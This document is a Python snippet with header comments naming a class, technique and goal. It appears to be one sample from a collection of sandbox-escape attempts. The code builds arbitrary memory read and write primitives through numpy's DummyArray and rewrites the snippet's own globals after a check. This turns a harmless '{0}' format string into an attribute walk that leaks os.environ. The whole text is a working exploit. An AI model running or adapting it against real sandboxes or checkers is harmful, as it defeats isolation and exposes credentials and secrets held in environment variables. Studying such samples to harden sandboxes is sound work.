# class: format_lookup
# technique: time of check vs use: t is bound once to the plain literal '{0}' (so t.format is allowed); the snippet's globals dict (func_globals, offset 16) is then rewritten to an attribute-walking template before the call (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: read
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

u = "_" * 2

t = "{0}"
namespace = object_at(peek(id(view) + 16))
namespace["t"] = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"
leak = t.format(np.vectorize)
df = pd.DataFrame({"environ": [leak]})
